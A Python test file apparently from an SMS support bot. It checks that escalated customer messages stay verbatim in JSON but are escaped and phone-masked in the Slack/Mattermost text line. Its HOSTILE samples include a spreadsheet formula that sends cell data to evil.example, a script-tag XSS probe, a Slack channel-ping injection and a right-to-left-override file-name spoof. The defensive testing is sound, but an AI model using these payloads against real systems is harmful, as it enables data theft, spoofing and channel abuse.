"""Customers' words in the escalation (issue 21 item 8): verbatim in the JSON fields, which
the docs mark untrusted, and escaped wherever smsbot itself renders them: the `text` line a
Slack or Mattermost incoming webhook shows."""

from __future__ import annotations

from datetime import UTC, datetime

from smsbot.dialog.escalation import EscalationRequest
from smsbot.store import SenderMessage

AT = datetime(2024, 11, 23, 15, 0, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "<script>alert(1)</script>",
    "<!channel> <http://evil.example|your refund>",
    "line one\nFAKE: line two\x1b[31m\u202egnp.exe",
]


def request(bodies: list[str]) -> EscalationRequest:
    return EscalationRequest(
        channel="sms",
        sender="+12025550199",
        address="+12025550199",
        order="1001",
        verified=False,
        language="en",
        at=AT,
        messages=tuple(SenderMessage(AT, body, "a reply <b>") for body in bodies),
    )


def test_json_fields_stay_verbatim() -> None:
    payload = request(HOSTILE).payload()
    assert [m["body"] for m in payload["messages"]] == HOSTILE


def test_the_text_line_is_escaped_for_chat_webhooks() -> None:
    text = request(HOSTILE).payload()["text"]
    assert isinstance(text, str)
    assert "\n" not in text and "\x1b" not in text and "\u202e" not in text
    assert "<" not in text and ">" not in text  # no <!channel>, no <url|label>, no <script>
    assert "&lt;script&gt;" in text and "&lt;!channel&gt;" in text
    assert "+12025550199" not in text and "+1******0199" in text  # chat rooms get it masked
    assert "order 1001" in text


def test_a_long_history_is_cut_in_the_text_line_only() -> None:
    payload = request(["x" * 1600] * 5).payload()
    assert len(payload["text"]) < 1500
    assert all(len(m["body"]) == 1600 for m in payload["messages"])
